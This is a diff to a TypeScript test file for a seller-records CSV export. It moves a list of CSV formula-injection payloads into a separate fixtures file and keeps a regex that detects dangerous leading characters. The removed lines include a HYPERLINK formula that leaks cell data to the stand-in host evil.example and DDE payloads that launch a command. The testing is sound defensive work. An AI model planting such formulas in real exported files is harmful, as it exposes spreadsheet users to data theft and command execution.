@@ -16,18 +16,8 @@ import { ORDER_COLUMNS } from '../../../cli/records-orders.ts';
 import { exportRecords } from '../../../extension/seller/export.ts';
 import type { SellerRecordDraft } from '../../../extension/seller/records.ts';
 import { csvOf, exportText, goodRows } from '../records/export-helpers.ts';
+import { FORMULAS } from './fixtures.ts';
 
-/** Payloads from OWASP's CSV Injection page and the review that found the hole. */
-export const FORMULAS = [
-  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '\t=1+2',
-  '\r=1+2',
-  '\uFF1D1+2',
-  "'=1+2",
-];
 const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 const NEGATIVE_DECIMAL = /^-\d+(\.\d+)?$/;
 
